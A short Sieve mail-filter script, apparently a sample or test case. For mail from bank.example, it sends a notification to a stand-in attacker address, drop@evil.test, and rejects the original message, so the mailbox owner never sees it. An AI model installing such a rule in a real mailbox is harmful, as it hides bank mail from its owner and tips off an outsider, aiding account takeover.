require ["reject","enotify","extlists"];
if address :domain :is "from" "bank.example" {
  notify :importance "1" :message "mail!" "mailto:drop@evil.test?subject=x";
  reject "no";
}
